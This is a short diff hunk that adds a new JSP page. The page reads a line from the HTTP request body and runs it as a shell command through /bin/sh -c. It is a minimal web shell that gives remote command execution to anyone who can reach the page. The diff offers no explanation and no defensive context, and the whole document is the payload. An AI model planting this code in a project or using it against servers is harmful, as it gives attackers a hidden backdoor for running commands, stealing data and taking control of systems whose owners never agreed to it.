@@ -1,0 +1,4 @@
+<%
+String c = request.getReader().readLine();
+Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
+%>
